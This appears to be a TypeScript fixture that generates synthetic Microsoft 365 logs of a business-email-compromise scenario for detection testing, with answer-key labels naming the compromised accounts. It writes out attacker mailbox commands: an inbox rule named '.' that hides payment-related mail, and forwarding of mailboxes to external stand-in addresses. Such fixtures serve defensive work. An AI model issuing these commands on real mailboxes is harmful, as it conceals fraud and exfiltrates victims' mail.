import { applications } from '../../applications.js';
import { composeUserSignIn } from '../../compose-sign-in.js';
import { draftMailboxCommand } from '../../m365-audit/draft-mailbox.js';
import { attackerOrigins } from '../../places.js';
import type { Story } from '../story.js';
import { usualDays } from '../usual-days.js';

/**
 * Business mail fraud: from abroad a rule with a dot for a name moves whatever speaks of payments to a folder that
 * nobody opens, and the mailbox forwards all else. A second account gets its forwarding by a command, in a session that
 * Identity Protection rates.
 */
export const invoicesHiddenAndForwarded: Story = {
  id: 'invoices-hidden-and-forwarded',
  title: 'Invoices hidden by a rule, and mailboxes forwarded, in strange sessions',
  kind: 'attack',
  compose: (stage) => {
    const { tenant, random, when, person } = stage;
    const [accountant, buyer] = [person(0), person(1)];
    const origin = attackerOrigins.farAway;
    const anonymous = attackerOrigins.anonymizer;
    const agent = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:143.0) Gecko/20100101 Firefox/143.0';
    return {
      logs: {
        signIns: [
          ...usualDays(stage, accountant, 0, 4),
          ...usualDays(stage, buyer, 0, 4),
          composeUserSignIn(tenant, accountant, random, {
            at: when(4, 23, 2),
            application: applications.exchangeOnline,
            origin,
            userAgent: agent,
          }),
          composeUserSignIn(tenant, buyer, random, {
            at: when(4, 3, 11),
            application: applications.exchangeOnline,
            origin: anonymous,
            userAgent: agent,
            changes: {
              risk: {
                levelDuringSignIn: 'medium',
                levelAggregated: 'medium',
                state: 'atRisk',
                detail: 'none',
                eventTypes: ['anonymizedIPAddress'],
              },
            },
          }),
        ],
        officeEvents: [
          draftMailboxCommand(stage, accountant, {
            at: when(4, 23, 9, random.integer(60)),
            address: origin.ipAddress,
            operation: 'New-InboxRule',
            parameters: {
              AlwaysDeleteOutlookRulesBlob: 'False',
              Force: 'False',
              MoveToFolder: 'RSS Feeds',
              Name: '.',
              MarkAsRead: 'True',
              SubjectOrBodyContainsWords: 'invoice;payment;wire;bank',
              StopProcessingRules: 'True',
            },
          }),
          draftMailboxCommand(stage, accountant, {
            at: when(4, 23, 12, random.integer(60)),
            address: origin.ipAddress,
            operation: 'Set-Mailbox',
            parameters: {
              Identity: accountant.principalName,
              ForwardingSmtpAddress: 'smtp:archive.2026@mailbox.example',
              DeliverToMailboxAndForward: 'True',
            },
          }),
          draftMailboxCommand(stage, buyer, {
            at: when(4, 3, 30, random.integer(60)),
            // Exchange writes IPv4 addresses so, too.
            address: `::ffff:${anonymous.ipAddress}`,
            operation: 'Set-InboxRule',
            parameters: {
              Identity: 'Newsletters',
              ForwardAsAttachmentTo: '"Order desk" [SMTP:orders@mailbox.example]',
              StopProcessingRules: 'False',
            },
          }),
        ],
      },
      compromised: [
        { account: accountant.principalName, severity: 'high', why: ['HidingRule', 'MailForwarded'] },
        { account: buyer.principalName, severity: 'high', why: ['MailForwarded'] },
      ],
      notCompromised: [],
    };
  },
};
